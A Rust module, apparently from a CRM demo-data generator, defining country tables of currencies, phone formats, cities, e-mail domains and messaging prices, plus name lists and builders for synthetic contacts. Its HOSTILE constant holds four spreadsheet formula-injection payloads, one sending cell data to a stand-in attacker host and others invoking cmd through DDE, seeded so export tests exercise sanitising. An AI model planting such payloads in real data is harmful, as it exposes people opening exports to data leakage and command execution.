//! Country facts and people: names, cities, phone formats, e-mail domains, preferred channels, prices.
//! Rates are rounded public list prices, good enough to make costs and revenue look plausible per country.

use super::rng::{DemoRng, Weighted, chance};
use rand::Rng;
use std::fmt::Write as _;

/// The tradition a country's people are named in (not a language of the product: Portuguese is here).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Naming {
    Spanish,
    English,
    Portuguese,
}

pub(crate) struct Country {
    pub code: &'static str,
    pub currency: &'static str,
    /// Local currency units per USD, for prices.
    pub usd_fx: f64,
    /// Amounts are rounded to this many cents (cash-like prices in COP, CLP, ARS end in zeros).
    pub cash_rounding: i128,
    pub lang: Naming,
    pub phone_prefix: &'static str,
    pub phone_leads: &'static [&'static str],
    /// Digits of a national mobile number, lead included.
    pub phone_digits: usize,
    pub cities: &'static [(&'static str, f64)],
    pub email_domains: &'static [(&'static str, f64)],
    /// Channel of first contact (dim_contacts.source_channel).
    pub source_channels: &'static [(&'static str, f64)],
    /// Channel of one-to-one conversations.
    pub conversation_channels: &'static [(&'static str, f64)],
    /// WhatsApp marketing and utility prices and the SMS price, in 1/10000 of a USD.
    pub wa_marketing: i64,
    pub wa_utility: i64,
    pub sms: i64,
}

pub(crate) static COUNTRIES: [Country; 8] = [
    Country {
        code: "CO",
        currency: "COP",
        usd_fx: 4100.0,
        cash_rounding: 10_000,
        lang: Naming::Spanish,
        phone_prefix: "+57",
        phone_leads: &[
            "300", "301", "304", "310", "311", "312", "313", "315", "316", "317", "318", "320", "321", "350",
        ],
        phone_digits: 10,
        cities: &[
            ("Bogotá", 0.38),
            ("Medellín", 0.20),
            ("Cali", 0.14),
            ("Barranquilla", 0.10),
            ("Cartagena", 0.06),
            ("Bucaramanga", 0.06),
            ("Pereira", 0.03),
            ("Manizales", 0.03),
        ],
        email_domains: &[
            ("gmail.com", 0.58),
            ("hotmail.com", 0.22),
            ("outlook.com", 0.08),
            ("yahoo.com", 0.06),
            ("une.net.co", 0.03),
            ("icloud.com", 0.03),
        ],
        source_channels: &[
            ("whatsapp", 0.48),
            ("web", 0.20),
            ("instagram", 0.16),
            ("email", 0.10),
            ("sms", 0.06),
        ],
        conversation_channels: &[("whatsapp", 0.86), ("email", 0.08), ("sms", 0.06)],
        wa_marketing: 125,
        wa_utility: 50,
        sms: 120,
    },
    Country {
        code: "MX",
        currency: "MXN",
        usd_fx: 18.0,
        cash_rounding: 1,
        lang: Naming::Spanish,
        phone_prefix: "+52",
        phone_leads: &["55", "56", "33", "81", "222", "442", "998", "999"],
        phone_digits: 10,
        cities: &[
            ("Ciudad de México", 0.38),
            ("Guadalajara", 0.17),
            ("Monterrey", 0.15),
            ("Puebla", 0.08),
            ("Querétaro", 0.06),
            ("Tijuana", 0.06),
            ("Mérida", 0.05),
            ("Cancún", 0.05),
        ],
        email_domains: &[
            ("gmail.com", 0.50),
            ("hotmail.com", 0.25),
            ("outlook.com", 0.10),
            ("yahoo.com.mx", 0.08),
            ("prodigy.net.mx", 0.04),
            ("icloud.com", 0.03),
        ],
        source_channels: &[
            ("whatsapp", 0.50),
            ("web", 0.18),
            ("instagram", 0.14),
            ("email", 0.10),
            ("sms", 0.08),
        ],
        conversation_channels: &[("whatsapp", 0.84), ("sms", 0.08), ("email", 0.08)],
        wa_marketing: 436,
        wa_utility: 100,
        sms: 350,
    },
    Country {
        code: "US",
        currency: "USD",
        usd_fx: 1.0,
        cash_rounding: 1,
        lang: Naming::English,
        phone_prefix: "+1",
        phone_leads: &["212", "305", "713", "312", "415", "512", "617", "786", "210", "602"],
        phone_digits: 10,
        cities: &[
            ("New York", 0.18),
            ("Miami", 0.17),
            ("Houston", 0.15),
            ("Los Angeles", 0.14),
            ("Chicago", 0.10),
            ("San Antonio", 0.08),
            ("Phoenix", 0.07),
            ("Dallas", 0.07),
            ("Austin", 0.04),
        ],
        email_domains: &[
            ("gmail.com", 0.45),
            ("yahoo.com", 0.15),
            ("outlook.com", 0.15),
            ("icloud.com", 0.15),
            ("aol.com", 0.05),
            ("hotmail.com", 0.05),
        ],
        source_channels: &[
            ("email", 0.35),
            ("web", 0.30),
            ("sms", 0.20),
            ("instagram", 0.10),
            ("whatsapp", 0.05),
        ],
        conversation_channels: &[("sms", 0.50), ("email", 0.35), ("whatsapp", 0.15)],
        wa_marketing: 250,
        wa_utility: 50,
        sms: 100,
    },
    Country {
        code: "PE",
        currency: "PEN",
        usd_fx: 3.7,
        cash_rounding: 10,
        lang: Naming::Spanish,
        phone_prefix: "+51",
        phone_leads: &["9"],
        phone_digits: 9,
        cities: &[("Lima", 0.62), ("Arequipa", 0.12), ("Trujillo", 0.10), ("Cusco", 0.08), ("Piura", 0.08)],
        email_domains: &[
            ("gmail.com", 0.55),
            ("hotmail.com", 0.30),
            ("outlook.com", 0.08),
            ("yahoo.com", 0.07),
        ],
        source_channels: &[
            ("whatsapp", 0.52),
            ("web", 0.16),
            ("instagram", 0.14),
            ("email", 0.12),
            ("sms", 0.06),
        ],
        conversation_channels: &[("whatsapp", 0.90), ("email", 0.06), ("sms", 0.04)],
        wa_marketing: 703,
        wa_utility: 200,
        sms: 400,
    },
    Country {
        code: "CL",
        currency: "CLP",
        usd_fx: 940.0,
        cash_rounding: 1000,
        lang: Naming::Spanish,
        phone_prefix: "+56",
        phone_leads: &["9"],
        phone_digits: 9,
        cities: &[
            ("Santiago", 0.60),
            ("Valparaíso", 0.10),
            ("Concepción", 0.10),
            ("Viña del Mar", 0.08),
            ("Antofagasta", 0.07),
            ("Temuco", 0.05),
        ],
        email_domains: &[
            ("gmail.com", 0.60),
            ("hotmail.com", 0.15),
            ("outlook.com", 0.10),
            ("yahoo.com", 0.05),
            ("vtr.net", 0.05),
            ("icloud.com", 0.05),
        ],
        source_channels: &[
            ("whatsapp", 0.45),
            ("web", 0.22),
            ("instagram", 0.15),
            ("email", 0.12),
            ("sms", 0.06),
        ],
        conversation_channels: &[("whatsapp", 0.85), ("email", 0.10), ("sms", 0.05)],
        wa_marketing: 800,
        wa_utility: 200,
        sms: 450,
    },
    Country {
        code: "AR",
        currency: "ARS",
        usd_fx: 1000.0,
        cash_rounding: 1000,
        lang: Naming::Spanish,
        phone_prefix: "+54",
        phone_leads: &["911", "9351", "9341", "9261", "9221"],
        phone_digits: 11,
        cities: &[
            ("Buenos Aires", 0.50),
            ("Córdoba", 0.15),
            ("Rosario", 0.12),
            ("Mendoza", 0.10),
            ("La Plata", 0.08),
            ("Mar del Plata", 0.05),
        ],
        email_domains: &[
            ("gmail.com", 0.55),
            ("hotmail.com", 0.25),
            ("yahoo.com.ar", 0.10),
            ("outlook.com", 0.05),
            ("fibertel.com.ar", 0.05),
        ],
        source_channels: &[
            ("whatsapp", 0.55),
            ("instagram", 0.18),
            ("web", 0.15),
            ("email", 0.08),
            ("sms", 0.04),
        ],
        conversation_channels: &[("whatsapp", 0.90), ("email", 0.07), ("sms", 0.03)],
        wa_marketing: 618,
        wa_utility: 260,
        sms: 500,
    },
    Country {
        code: "BR",
        currency: "BRL",
        usd_fx: 5.3,
        cash_rounding: 1,
        lang: Naming::Portuguese,
        phone_prefix: "+55",
        phone_leads: &["119", "219", "319", "419", "519"],
        phone_digits: 11,
        cities: &[
            ("São Paulo", 0.42),
            ("Rio de Janeiro", 0.25),
            ("Belo Horizonte", 0.12),
            ("Curitiba", 0.10),
            ("Porto Alegre", 0.11),
        ],
        email_domains: &[
            ("gmail.com", 0.55),
            ("hotmail.com", 0.20),
            ("outlook.com", 0.10),
            ("uol.com.br", 0.08),
            ("bol.com.br", 0.07),
        ],
        source_channels: &[
            ("whatsapp", 0.58),
            ("instagram", 0.18),
            ("web", 0.14),
            ("email", 0.06),
            ("sms", 0.04),
        ],
        conversation_channels: &[("whatsapp", 0.90), ("email", 0.06), ("sms", 0.04)],
        wa_marketing: 625,
        wa_utility: 80,
        sms: 200,
    },
    Country {
        code: "EC",
        currency: "USD",
        usd_fx: 1.0,
        cash_rounding: 1,
        lang: Naming::Spanish,
        phone_prefix: "+593",
        phone_leads: &["9"],
        phone_digits: 9,
        cities: &[("Quito", 0.45), ("Guayaquil", 0.42), ("Cuenca", 0.13)],
        email_domains: &[("gmail.com", 0.60), ("hotmail.com", 0.30), ("outlook.com", 0.10)],
        source_channels: &[
            ("whatsapp", 0.55),
            ("instagram", 0.16),
            ("web", 0.15),
            ("email", 0.08),
            ("sms", 0.06),
        ],
        conversation_channels: &[("whatsapp", 0.88), ("email", 0.06), ("sms", 0.06)],
        wa_marketing: 400,
        wa_utility: 100,
        sms: 380,
    },
];

/// Index into [`COUNTRIES`]; unknown codes fall back to the first country (profiles only use known ones).
pub(crate) fn country_index(code: &str) -> u8 {
    COUNTRIES.iter().position(|c| c.code == code).unwrap_or(0) as u8
}

/// Exchange rate (units per USD) and cash rounding (in cents) of a currency.
pub(crate) fn currency_fx(currency: &str) -> (f64, i128) {
    COUNTRIES.iter().find(|c| c.currency == currency).map_or((1.0, 1), |c| (c.usd_fx, c.cash_rounding))
}

const ES_FEMALE: &[&str] = &[
    "María",
    "Ana",
    "Laura",
    "Carolina",
    "Valentina",
    "Camila",
    "Daniela",
    "Sofía",
    "Isabella",
    "Natalia",
    "Paula",
    "Andrea",
    "Juliana",
    "Alejandra",
    "Gabriela",
    "Mariana",
    "Lucía",
    "Fernanda",
    "Patricia",
    "Claudia",
    "Diana",
    "Paola",
    "Verónica",
    "Ximena",
    "Catalina",
    "Luisa",
    "Adriana",
    "Sandra",
    "Mónica",
    "Rosa",
    "Elena",
    "Martina",
    "Renata",
    "Valeria",
    "Jimena",
    "Guadalupe",
    "Beatriz",
    "Lorena",
    "Manuela",
    "Antonella",
    "María José",
    "María Fernanda",
    "Ana María",
    "Luz Marina",
];
const ES_MALE: &[&str] = &[
    "José",
    "Juan",
    "Carlos",
    "Luis",
    "Andrés",
    "Jorge",
    "Miguel",
    "Alejandro",
    "Santiago",
    "Sebastián",
    "Mateo",
    "Diego",
    "Felipe",
    "Daniel",
    "David",
    "Javier",
    "Fernando",
    "Ricardo",
    "Eduardo",
    "Manuel",
    "Pedro",
    "Pablo",
    "Nicolás",
    "Martín",
    "Gabriel",
    "Camilo",
    "Julián",
    "Óscar",
    "Raúl",
    "Héctor",
    "Francisco",
    "Emiliano",
    "Tomás",
    "Joaquín",
    "Rodrigo",
    "Gustavo",
    "Mauricio",
    "Iván",
    "Esteban",
    "Juan Pablo",
    "Juan Carlos",
    "José Luis",
    "Luis Fernando",
];
const ES_LAST: &[&str] = &[
    "García",
    "Rodríguez",
    "Martínez",
    "López",
    "González",
    "Hernández",
    "Pérez",
    "Sánchez",
    "Ramírez",
    "Torres",
    "Flores",
    "Rivera",
    "Gómez",
    "Díaz",
    "Reyes",
    "Morales",
    "Cruz",
    "Ortiz",
    "Gutiérrez",
    "Chávez",
    "Ramos",
    "Vargas",
    "Castillo",
    "Jiménez",
    "Moreno",
    "Romero",
    "Herrera",
    "Medina",
    "Aguilar",
    "Castro",
    "Ruiz",
    "Álvarez",
    "Mendoza",
    "Rojas",
    "Vásquez",
    "Muñoz",
    "Suárez",
    "Restrepo",
    "Ospina",
    "Cárdenas",
    "Salazar",
    "Quintero",
    "Benítez",
    "Fernández",
    "Acosta",
    "Guerrero",
    "Peña",
    "Soto",
    "Navarro",
    "Valencia",
    "Zapata",
    "Mejía",
    "Castaño",
    "Espinoza",
    "Figueroa",
    "Sepúlveda",
    "Fuentes",
    "Contreras",
    "Paredes",
    "Villalobos",
];
const EN_FEMALE: &[&str] = &[
    "Emily",
    "Jessica",
    "Ashley",
    "Sarah",
    "Jennifer",
    "Amanda",
    "Elizabeth",
    "Megan",
    "Lauren",
    "Olivia",
    "Emma",
    "Hannah",
    "Madison",
    "Rachel",
    "Nicole",
    "Stephanie",
    "Rebecca",
    "Samantha",
    "Katherine",
    "Abigail",
    "Grace",
    "Chloe",
];
const EN_MALE: &[&str] = &[
    "Michael",
    "Christopher",
    "Matthew",
    "Joshua",
    "David",
    "James",
    "Daniel",
    "Robert",
    "John",
    "Joseph",
    "Andrew",
    "Ryan",
    "Brandon",
    "Jason",
    "Justin",
    "William",
    "Tyler",
    "Kevin",
    "Brian",
    "Thomas",
    "Ethan",
    "Noah",
];
const EN_LAST: &[&str] = &[
    "Smith", "Johnson", "Williams", "Brown", "Jones", "Miller", "Davis", "Wilson", "Anderson", "Taylor",
    "Thomas", "Moore", "Jackson", "Martin", "Lee", "Thompson", "White", "Harris", "Clark", "Lewis",
    "Robinson", "Walker", "Young", "Allen", "King", "Wright", "Scott", "Hill", "Green", "Adams", "Baker",
    "Nelson", "Carter", "Mitchell", "Campbell", "Roberts", "Turner", "Phillips", "Parker", "Evans",
    "Collins", "Murphy", "Cook", "Rogers", "Kelly", "Bennett",
];
const PT_FEMALE: &[&str] = &[
    "Ana",
    "Maria",
    "Juliana",
    "Fernanda",
    "Beatriz",
    "Larissa",
    "Camila",
    "Amanda",
    "Letícia",
    "Gabriela",
    "Mariana",
    "Aline",
    "Patrícia",
    "Bruna",
    "Luana",
    "Vitória",
    "Isabela",
    "Júlia",
];
const PT_MALE: &[&str] = &[
    "João",
    "Pedro",
    "Lucas",
    "Gabriel",
    "Rafael",
    "Felipe",
    "Guilherme",
    "Matheus",
    "Gustavo",
    "Bruno",
    "Thiago",
    "Rodrigo",
    "Leonardo",
    "Vinícius",
    "André",
    "Marcelo",
    "Eduardo",
    "Diego",
];
const PT_LAST: &[&str] = &[
    "Silva",
    "Santos",
    "Oliveira",
    "Souza",
    "Rodrigues",
    "Ferreira",
    "Alves",
    "Pereira",
    "Lima",
    "Gomes",
    "Costa",
    "Ribeiro",
    "Martins",
    "Carvalho",
    "Almeida",
    "Lopes",
    "Soares",
    "Fernandes",
    "Vieira",
    "Barbosa",
    "Rocha",
    "Dias",
    "Nascimento",
    "Moreira",
];

/// Names a CRM really receives from web forms: text a spreadsheet would run as a formula. A few contacts of every
/// tenant carry one (by their position, so the rest of the data is unchanged) so that the export tests meet them.
pub(crate) const HOSTILE: [(usize, &str); 4] = [
    (5, "=HYPERLINK(\"http://attacker.invalid/?leak=\"&A1,\"Click here\")"),
    (42, "+cmd|' /C calc'!A0"),
    (99, "-2+3+cmd|' /C notepad'!A0"),
    (314, "@SUM(1+9)*cmd|' /C calc'!A0"),
];

/// The hostile name the contact at `index` (within its tenant) carries, if any.
pub(crate) fn hostile(index: usize) -> Option<&'static str> {
    HOSTILE.iter().find(|(i, _)| *i == index).map(|(_, name)| *name)
}

fn pick<'a>(rng: &mut DemoRng, list: &[&'a str]) -> &'a str {
    list[rng.gen_range(0..list.len())]
}

/// A person's name: first name(s) and surname(s) as that country writes them.
pub(crate) struct PersonName {
    pub first: &'static str,
    pub last: &'static str,
    pub second_last: Option<&'static str>,
}

impl PersonName {
    pub(crate) fn write_full(&self, out: &mut String) {
        out.clear();
        out.push_str(self.first);
        out.push(' ');
        out.push_str(self.last);
        if let Some(s) = self.second_last {
            out.push(' ');
            out.push_str(s);
        }
    }
}

pub(crate) fn person(rng: &mut DemoRng, country: &Country) -> PersonName {
    // US contacts of the demo tenants are partly Hispanic; a few Latin American ones have English names.
    let lang = match country.lang {
        Naming::English if chance(rng, 0.30) => Naming::Spanish,
        l => l,
    };
    let female = chance(rng, 0.52);
    let (first, last) = match (lang, female) {
        (Naming::Spanish, true) => (pick(rng, ES_FEMALE), pick(rng, ES_LAST)),
        (Naming::Spanish, false) => (pick(rng, ES_MALE), pick(rng, ES_LAST)),
        (Naming::English, true) => (pick(rng, EN_FEMALE), pick(rng, EN_LAST)),
        (Naming::English, false) => (pick(rng, EN_MALE), pick(rng, EN_LAST)),
        (Naming::Portuguese, true) => (pick(rng, PT_FEMALE), pick(rng, PT_LAST)),
        (Naming::Portuguese, false) => (pick(rng, PT_MALE), pick(rng, PT_LAST)),
    };
    // Spanish-speaking countries often write both surnames (less so in Argentina); Brazilians sometimes too.
    let second_p = match (lang, country.code) {
        (Naming::Spanish, "AR") => 0.08,
        (Naming::Spanish, "US") => 0.10,
        (Naming::Spanish, _) => 0.40,
        (Naming::Portuguese, _) => 0.25,
        (Naming::English, _) => 0.0,
    };
    let second_last = if chance(rng, second_p) {
        let list = if lang == Naming::Portuguese { PT_LAST } else { ES_LAST };
        // Two different surnames: "Gómez Gómez" exists but reads like a bug in demo data.
        let mut s = pick(rng, list);
        while s == last {
            s = pick(rng, list);
        }
        Some(s)
    } else {
        None
    };
    PersonName { first, last, second_last }
}

/// Lower-case ASCII for e-mail local parts: accents folded, everything else but letters and digits dropped.
fn push_ascii(out: &mut String, s: &str) {
    for ch in s.chars() {
        let c = match ch {
            'á' | 'à' | 'ä' | 'â' | 'ã' | 'Á' | 'À' | 'Ä' | 'Â' | 'Ã' => 'a',
            'é' | 'è' | 'ë' | 'ê' | 'É' | 'È' | 'Ë' | 'Ê' => 'e',
            'í' | 'ì' | 'ï' | 'î' | 'Í' | 'Ì' | 'Ï' | 'Î' => 'i',
            'ó' | 'ò' | 'ö' | 'ô' | 'õ' | 'Ó' | 'Ò' | 'Ö' | 'Ô' | 'Õ' => 'o',
            'ú' | 'ù' | 'ü' | 'û' | 'Ú' | 'Ù' | 'Ü' | 'Û' => 'u',
            'ñ' | 'Ñ' => 'n',
            'ç' | 'Ç' => 'c',
            c if c.is_ascii_alphanumeric() => c.to_ascii_lowercase(),
            _ => continue,
        };
        out.push(c);
    }
}

/// An address like `maria.gomez87@gmail.com`.
pub(crate) fn email(
    rng: &mut DemoRng,
    name: &PersonName,
    domains: &Weighted<&'static str>,
    out: &mut String,
) {
    out.clear();
    let first = name.first.split(' ').next().unwrap_or(name.first);
    match rng.gen_range(0..5) {
        0 => {
            push_ascii(out, first);
            out.push('.');
            push_ascii(out, name.last);
        }
        1 => {
            push_ascii(out, first);
            out.push('_');
            push_ascii(out, name.last);
        }
        2 => {
            // Initial plus surname: `mgomez`.
            let initial: String = first.chars().take(1).collect();
            push_ascii(out, &initial);
            push_ascii(out, name.last);
        }
        3 => {
            push_ascii(out, first);
            push_ascii(out, name.last);
        }
        _ => {
            push_ascii(out, name.last);
            out.push('.');
            push_ascii(out, first);
        }
    }
    if chance(rng, 0.55) {
        let _ = write!(out, "{}", rng.gen_range(1..100));
    }
    out.push('@');
    out.push_str(domains.sample(rng));
}

/// A mobile number in E.164, e.g. `+573101234567`.
pub(crate) fn phone(rng: &mut DemoRng, country: &Country, out: &mut String) {
    out.clear();
    out.push_str(country.phone_prefix);
    let lead = pick(rng, country.phone_leads);
    out.push_str(lead);
    for _ in lead.len()..country.phone_digits {
        out.push(char::from(b'0' + rng.gen_range(0..10u8)));
    }
}

/// A slug for template names: `Black Friday 2025 - Recordatorio` → `black_friday_2025_recordatorio`.
pub(crate) fn slug(name: &str) -> String {
    let mut folded = String::with_capacity(name.len());
    for word in name.split(|c: char| !c.is_alphanumeric()) {
        if word.is_empty() {
            continue;
        }
        if !folded.is_empty() {
            folded.push('_');
        }
        push_ascii(&mut folded, word);
    }
    folded
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn slug_folds_accents() {
        assert_eq!(
            slug("Día de la Madre 2025 - Última oportunidad"),
            "dia_de_la_madre_2025_ultima_oportunidad"
        );
    }
}
